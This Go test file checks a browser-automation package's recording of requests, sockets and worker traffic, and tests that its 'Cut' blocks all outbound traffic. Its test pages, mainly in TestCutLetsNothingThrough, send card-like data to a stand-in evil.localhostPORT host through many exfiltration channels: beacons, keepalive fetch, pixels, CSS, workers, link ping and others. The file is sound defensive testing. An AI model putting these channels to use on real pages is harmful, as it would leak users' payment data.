package browser

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/coder/websocket"
)

func TestRequestsAreRecordedWithBodyAndStack(t *testing.T) {
	s := newSite(t)
	s.serve("/", `<!doctype html><title></title><form id=f method=post action=/form target=sink enctype=multipart/form-data><input name=a value=form-data></form>
<iframe name=sink></iframe><script src=/app.js></script>`)
	s.serve("/app.js", `
async function send() {
  await fetch('/text', {method: 'POST', body: 'plain-text'});
  await later();
}
async function later() {
  await new Promise(r => setTimeout(r, 1));
  await fetch('/async', {method: 'POST', body: new URLSearchParams({a: 'form-encoded'})});
  await fetch('/blob', {method: 'POST', body: new Blob(['blob-', 'data'])});
  const f = new FormData(); f.append('file', new Blob(['file-data']), 'x.txt'); f.append('t', 'text-data');
  await fetch('/multipart', {method: 'POST', body: f});
  await fetch('/bytes', {method: 'POST', body: new Uint8Array([0, 1, 254, 255])});
  await fetch('/long', {method: 'POST', body: 'x'.repeat(300000) + 'tail'});
  await fetch('/redirect', {method: 'POST', body: 'moved'});
  await fetch('http://evil.localhostPORT/cors', {method: 'POST', headers: {'x-own': '1', 'content-type': 'application/json'}, body: '{}'}).catch(() => {});
  const x = new XMLHttpRequest(); x.open('PUT', '/xhr'); x.send('xhr-data'); await new Promise(r => x.onload = r);
  navigator.sendBeacon('http://evil.localhostPORT/beacon', new Blob(['beacon-data']));
  new Image().src = 'http://evil.localhostPORT/pixel?d=pixel-data';
  document.getElementById('f').submit();
  document.title = 'done';
}
send();`)
	s.serve("/text", "")
	s.handle("/redirect", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Set-Cookie", "hop=1; HttpOnly")
		http.Redirect(w, r, "/target", http.StatusTemporaryRedirect)
	})
	s.serve("/target", "there")

	b := sharedBrowser(t)
	b.Recording().Mark("typing")
	tab := newTab(t, b)
	show(t, tab, s.at("req", "/"))
	waitFor(t, "the form's answer", func() bool { return strings.Contains(strings.Join(s.asked(), "\n"), "POST req /form") })

	for path, body := range map[string]string{
		"/text": "plain-text", "/async": "a=form-encoded", "/blob": "blob-data", "/multipart": "file-data",
		"/bytes": "\x00\x01\xfe\xff", "/long": "tail", "/redirect": "moved", "/target": "moved", "/xhr": "xhr-data",
		"/beacon": "beacon-data", "/form": "form-data", "/cors": "{}",
	} {
		r := s.request(t, b, path)
		if !bytes.Contains(r.Body.Bytes(), []byte(body)) || r.Truncated {
			t.Errorf("%s: body of %d bytes without %q, truncated %t", path, r.Body.Len(), body, r.Truncated)
		}
		if r.Step != "typing" || r.Tab != tab.ID || r.Target != "page" && r.Target != "iframe" {
			t.Errorf("%s: step %q, tab %q, target %q", path, r.Step, r.Tab, r.Target)
		}
	}

	deferred := s.request(t, b, "/async")
	var names []string
	for _, c := range deferred.Stack {
		names = append(names, c.Function)
	}
	if fmt.Sprint(names) != "[later send ]" || deferred.Stack[0].Line != 8 || !strings.HasSuffix(deferred.Stack[0].URL, "/app.js") || deferred.Stack[0].ScriptID == "" {
		t.Errorf("the stack across a timer and a promise: %+v", deferred.Stack)
	}
	if script := s.request(t, b, "/app.js"); script.InitiatorKind != "parser" || script.InitiatorLine != 2 || script.Type != "Script" || script.Status != 200 {
		t.Errorf("the script's own request: %+v", script)
	}
	from, to := s.request(t, b, "/redirect"), s.request(t, b, "/target")
	if to.RedirectOf != from.Seq || from.Status != 307 || to.Status != 200 || !strings.Contains(from.ResponseHeaders["set-cookie"], "hop=1") {
		t.Errorf("redirect %d (status %d, %v) to one of %d (status %d)", from.Seq, from.Status, from.ResponseHeaders, to.RedirectOf, to.Status)
	}
	if main := s.request(t, b, "/"); !main.Main || main.Type != "Document" {
		t.Errorf("the page's request: %+v", main)
	}
	if !strings.Contains(to.Headers["cookie"], "hop=1") {
		t.Errorf("headers as sent: %v", to.Headers)
	}
}

func TestWhatAPageSendsWhenItIsLeft(t *testing.T) {
	s := newSite(t)
	s.serve("/", `<title>done</title><script>
addEventListener('pagehide', () => {
  navigator.sendBeacon('http://evil.localhostPORT/hide', 'hide-data');
  fetch('http://evil.localhostPORT/keepalive', {method: 'POST', keepalive: true, mode: 'no-cors', body: 'keepalive-data'});
});
</script>`)
	s.serve("/next", `<title>done</title>`)
	b := sharedBrowser(t)
	tab := newTab(t, b)
	show(t, tab, s.at("leave", "/"))
	show(t, tab, s.at("elsewhere", "/next"))
	for path, body := range map[string]string{"/hide": "hide-data", "/keepalive": "keepalive-data"} {
		waitFor(t, path, func() bool { return strings.Contains(strings.Join(s.asked(), "\n"), path) })
		if r := s.request(t, b, path); string(r.Body.Bytes()) != body {
			t.Errorf("%s: %d bytes", path, r.Body.Len())
		}
	}
}

func TestWorkersAreWatched(t *testing.T) {
	s := newSite(t)
	s.serve("/", `<title></title><script>
const code = kind => "fetch('http://evil.localhostPORT/" + kind + "', {method: 'POST', mode: 'no-cors', body: '" + kind + "'})";
new Worker(URL.createObjectURL(new Blob([code('worker') + "; new Worker(URL.createObjectURL(new Blob([" + JSON.stringify(code('nested')) + "])))"])));
new SharedWorker('/shared.js');
navigator.serviceWorker.register('/sw.js');
</script>`)
	s.serve("/shared.js", `fetch('http://evil.localhostPORT/shared', {method: 'POST', mode: 'no-cors', body: 'shared'})`)
	s.serve("/sw.js", `fetch('http://evil.localhostPORT/service', {method: 'POST', mode: 'no-cors', body: 'service'})`)
	b := sharedBrowser(t)
	tab := newTab(t, b)
	visit(t, tab, s.at("workers", "/"))
	for kind, target := range map[string]string{"worker": "worker", "nested": "worker", "shared": "shared_worker", "service": "service_worker"} {
		waitFor(t, kind, func() bool { return strings.Contains(strings.Join(s.asked(), "\n"), "POST evil /"+kind) })
		waitFor(t, "its stack", func() bool { return len(s.request(t, b, "/"+kind).Stack) > 0 })
		if r := s.request(t, b, "/"+kind); string(r.Body.Bytes()) != kind || r.Target != target {
			t.Errorf("%s: target %q, %d bytes, stack %v", kind, r.Target, r.Body.Len(), r.Stack)
		}
	}
}

func TestSocketMessagesAreRecorded(t *testing.T) {
	s := newSite(t)
	s.handle("/ws", func(w http.ResponseWriter, r *http.Request) {
		c, err := websocket.Accept(w, r, &websocket.AcceptOptions{InsecureSkipVerify: true})
		if err != nil {
			return
		}
		defer c.CloseNow()
		for {
			kind, data, err := c.Read(context.Background())
			if err != nil || c.Write(context.Background(), kind, append([]byte("re:"), data...)) != nil {
				return
			}
		}
	})
	s.serve("/", `<title></title><script>
function connect() { return new WebSocket('ws://evil.localhostPORT/ws'); }
const ws = connect(); ws.binaryType = 'arraybuffer';
let n = 0;
ws.onopen = () => { ws.send('text-data'); ws.send(new Uint8Array([1, 255])); };
ws.onmessage = () => { if (++n == 2) document.title = 'done'; };
</script>`)
	b := sharedBrowser(t)
	tab := newTab(t, b)
	show(t, tab, s.at("socket", "/"))
	got := map[string]bool{}
	for _, f := range b.Recording().Sockets() {
		if !strings.Contains(f.URL, s.port) {
			continue
		}
		got[fmt.Sprintf("%t %s", f.Sent, f.Payload.Bytes())] = true
		if len(f.Stack) == 0 || f.Stack[0].Function != "connect" {
			t.Errorf("who opened it: %+v", f.Stack)
		}
	}
	for _, want := range []string{"true text-data", "true \x01\xff", "false re:text-data", "false re:\x01\xff"} {
		if !got[want] {
			t.Errorf("no message %q", want)
		}
	}
}

func TestCutLetsNothingThrough(t *testing.T) {
	s := newSite(t)
	s.serve("/", `<!doctype html><title>done</title>
<form id=f method=post action=/order><input name=card value=form-card><button id=b style="position:fixed;left:0;top:0;width:99px;height:99px">Pay</button></form>
<iframe src="http://psp.localhostPORT/frame"></iframe>
<script>
navigator.serviceWorker.register('/sw.js');
const worker = new Worker('/worker.js'), shared = new SharedWorker('/shared.js');
const all = () => {
  fetch('/fetch', {method: 'POST', body: 'fetch-card'});
  const x = new XMLHttpRequest(); x.open('POST', '/xhr'); x.send('xhr-card');
  navigator.sendBeacon('http://evil.localhostPORT/beacon', 'beacon-card');
  fetch('http://evil.localhostPORT/keepalive', {method: 'POST', keepalive: true, mode: 'no-cors', body: 'keepalive-card'});
  new Image().src = 'http://evil.localhostPORT/pixel';
  worker.postMessage(1); shared.port.postMessage(1);
  navigator.serviceWorker.controller?.postMessage(1);
  const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '/prefetch'; document.head.append(l);
  const i = document.createElement('iframe'); i.src = 'http://evil.localhostPORT/frame2'; document.body.append(i);
  const c = document.createElement('style'); c.textContent = 'body{background:url(http://evil.localhostPORT/css)}'; document.head.append(c);
  frames[0].postMessage(1, '*');
  try { new EventSource('/stream'); new WebSocket('ws://evil.localhostPORT/socket'); } catch {}
  const add = (name, fields) => { const e = Object.assign(document.createElement(name), fields); (/link|meta|script/.test(name) ? document.head : document.body).append(e); return e; };
  const evil = 'http://evil.localhostPORT/';
  add('link', {rel: 'icon', href: evil + 'icon'});
  add('link', {rel: 'manifest', href: evil + 'manifest'});
  add('link', {rel: 'modulepreload', href: evil + 'modulepreload'});
  add('link', {rel: 'preload', as: 'script', href: evil + 'preload'});
  add('link', {rel: 'stylesheet', href: evil + 'stylesheet'});
  add('script', {src: evil + 'script'});
  add('script', {type: 'module', text: "import '" + evil + "module'"});
  add('script', {type: 'speculationrules', text: JSON.stringify({
    prefetch: [{source: 'list', urls: [evil + 'speculated'], eagerness: 'immediate'}],
    prerender: [{source: 'list', urls: ['/prerendered'], eagerness: 'immediate'}]})});
  add('video', {poster: evil + 'poster', src: evil + 'video'});
  add('object', {data: evil + 'object'});
  add('embed', {src: evil + 'embed'});
  add('meta', {httpEquiv: 'Content-Security-Policy', content: "connect-src *; report-uri " + evil + "report"});
  const a = add('a', {href: '#', ping: evil + 'ping'}); a.click();
  try { fetchLater(evil + 'later', {method: 'POST', body: 'later-card', activateAfter: 0}); } catch {}
  try { new WebTransport('https://evil.localhostPORT/transport'); } catch {}
  open('http://evil.localhostPORT/popup');
};
document.getElementById('b').addEventListener('click', all);
addEventListener('pagehide', () => navigator.sendBeacon('http://evil.localhostPORT/hide', 'hide-card'));
</script>`)
	send := func(kind string) string {
		return fmt.Sprintf("fetch('http://evil.localhostPORT/%s', {method: 'POST', mode: 'no-cors', body: '%s-card'})", kind, kind)
	}
	s.serve("/worker.js", "onmessage = () => "+send("worker"))
	s.serve("/shared.js", "onconnect = e => e.ports[0].onmessage = () => "+send("shared"))
	s.serve("/sw.js", "oninstall = () => skipWaiting(); onactivate = e => e.waitUntil(clients.claim()); onmessage = () => "+send("service")+"; onfetch = () => {}")
	s.serve("/frame", "<script>onmessage = () => "+send("frame")+"</script>")

	b := launch1(t, Options{})
	tab := newTab(t, b)
	show(t, tab, s.at("pay", "/"))
	waitFor(t, "the service worker", func() bool {
		return eval[bool](t, mainFrame(t, tab), "!!navigator.serviceWorker.controller")
	})
	if _, err := tab.Settle(limit(t), SettleOptions{}); err != nil {
		t.Fatal(err)
	}

	b.Cut()
	s.forget()
	b.Recording().Mark("pressed")
	if err := tab.Click(limit(t), 20, 20); err != nil {
		t.Fatal(err)
	}
	pressed := func() map[string]Request {
		got := map[string]Request{}
		for _, r := range s.requests(b) {
			if r.Step == "pressed" {
				got[strings.TrimPrefix(r.URL[strings.Index(r.URL, s.port)+len(s.port):], "/")] = r
			}
		}
		return got
	}
	bodies := map[string]string{
		"order": "card=form-card", "fetch": "fetch-card", "xhr": "xhr-card", "beacon": "beacon-card", "keepalive": "keepalive-card",
		"worker": "worker-card", "shared": "shared-card", "service": "service-card", "frame": "frame-card",
		"pixel": "", "prefetch": "", "frame2": "", "css": "", "stream": "", "popup": "",
		"icon": "", "modulepreload": "", "preload": "", "stylesheet": "", "script": "", "module": "", "poster": "", "video": "", "object": "", "embed": "",
	}
	for path, body := range bodies {
		waitFor(t, path, func() bool { return pressed()[path].Cut })
		if r := pressed()[path]; string(r.Body.Bytes()) != body {
			t.Errorf("%s: %d bytes", path, r.Body.Len())
		}
	}
	if page, _, _ := strings.Cut(tab.URL(), "#"); page != s.at("pay", "/") {
		t.Errorf("the page was left for %s", tab.URL())
	}

	// Leaving the page and asking for another one brings nothing out either.
	if err := tab.Navigate(limit(t), s.at("pay", "/elsewhere")); err == nil {
		t.Error("a navigation after the cut went through")
	}
	if err := tab.Close(); err != nil {
		t.Fatal(err)
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	for _, asked := range s.asked() {
		if !strings.HasSuffix(asked, "/socket ") { // the proxy's part
			t.Errorf("reached the server: %s", asked)
		}
	}
}
